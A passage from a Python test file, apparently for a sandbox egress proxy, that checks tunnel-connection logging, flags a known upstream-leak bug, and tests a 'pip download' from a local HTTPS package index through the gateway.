    assert tunnel_rows and all(r["reason"].startswith("tunnel") for r in tunnel_rows)
    assert all(r["bytes_down"] > 20000 for r in tunnel_rows), tunnel_rows
    plain_end = env.bulk.wait_for(
        lambda e: e[0] == "slow_end" and e[1] == f"plain-{tag}", timeout=3
    )
    known_bug(bool(plain_end), PLAIN_UPSTREAM_LEAK)


def test_pip_download_through_the_gateway(open_sbx: Sandbox, env: Env) -> None:
    """`pip download` from a local HTTPS package index, with pip's own proxy and CA settings
    (PIP_PROXY / HTTPS_PROXY and PIP_CERT from the sandbox's environment)."""
    index = f"https://{API}:{env.tls.port}/simple/"
    r = open_sbx.commands.run(
        "python3 -m pip download --no-deps --no-cache-dir --disable-pip-version-check "
        f"--index-url {index} -d /tmp/dl demo-pkg==0.1 2>&1",
        timeout=240,
    )
    assert "Successfully downloaded demo-pkg" in r.stdout, r.stdout[-2000:]
    assert "demo_pkg-0.1-py3-none-any.whl" in {e.name for e in open_sbx.files.list("/tmp/dl")}
    rows = [row for row in egress_rows(open_sbx) if row.get("host") == API]
    assert any(row["result"] == "allow" for row in rows)
